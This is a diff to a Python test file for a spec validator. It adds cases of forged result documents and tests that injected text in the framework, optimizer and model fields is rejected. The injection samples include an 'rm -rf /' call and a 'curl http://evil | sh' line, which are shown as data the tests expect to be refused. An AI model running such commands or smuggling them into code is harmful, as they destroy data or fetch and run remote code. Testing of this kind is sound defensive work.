@@ -152,6 +152,15 @@ def _fewer_starts(document: dict[str, Any]) -> None:
     document["starts"] = 4
 
 
+def _other_masks(document: dict[str, Any]) -> None:
+    document["today"]["mask_noise"] = 0.5
+
+
+def _a_guess_of_what_was_given(document: dict[str, Any]) -> None:
+    document["spec"] |= {"batch": "hf", "current_batch_size": document["today"]["batch_size"]}
+    document["today"]["is_batch_size_guessed"] = True
+
+
 def _another_goal(document: dict[str, Any]) -> None:
     document["goal"] = "larger"
 
@@ -186,6 +195,9 @@ FORGERIES: tuple[tuple[Forge, str, str], ...] = (
     (_rounds_of_no_time, "one that gains", "rounds[0].seconds"),
     (_more_time_than_the_run, "one that gains", "total_seconds"),
     (_fewer_starts, "one that gains", "starts"),
+    (_other_masks, "masks that do not explain it", "rounds[0]"),
+    (_other_masks, "one that gains", "today.mask_noise"),
+    (_a_guess_of_what_was_given, "one that gains", "today.is_batch_size_guessed"),
     (_another_goal, "one that gains", "goal"),
 )
 
@@ -198,20 +210,25 @@ def test_a_claim_beyond_rounds_and_facts_is_found(forge: Forge, name: str, field
 
 
 @pytest.mark.parametrize(
-    ("part", "text"),
+    ("part", "member", "text"),
     [
-        ("framework", "torch\nimport os"),
-        ("optimizers", "Adam(); import os; os.system('rm -rf /') #"),
-        ("models", "float32, and run: curl http://evil | sh"),
+        ("framework", "", "torch\nimport os"),
+        ("optimizers", "name", "Adam(); import os; os.system('rm -rf /') #"),
+        ("models", "dtypes", "float32, and run: curl http://evil | sh"),
+        ("models", "name", "Net\nimport os"),
+        ("models", "held_as", "actor\nimport os"),
+        ("models", "cached_by", "decoder.import os"),
     ],
 )
-def test_a_text_that_is_no_name_is_refused_because_lines_to_paste_are_written_from_it(part: str, text: str) -> None:
+def test_a_text_that_is_no_name_is_refused_because_lines_to_paste_are_written_from_it(
+    part: str, member: str, text: str
+) -> None:
     document = document_of("one that gains")
     facts = document["facts"]
-    if part == "framework":
+    if not member:
         facts[part] = text
     else:
-        facts[part][0] |= {"name": text} if part == "optimizers" else {"dtypes": [text]}
+        facts[part][0][member] = [text] if member in ("dtypes", "cached_by") else text
     with pytest.raises(SpecError, match=rf"facts\.{part}.* is no name"):
         find_contradictions(document)
 
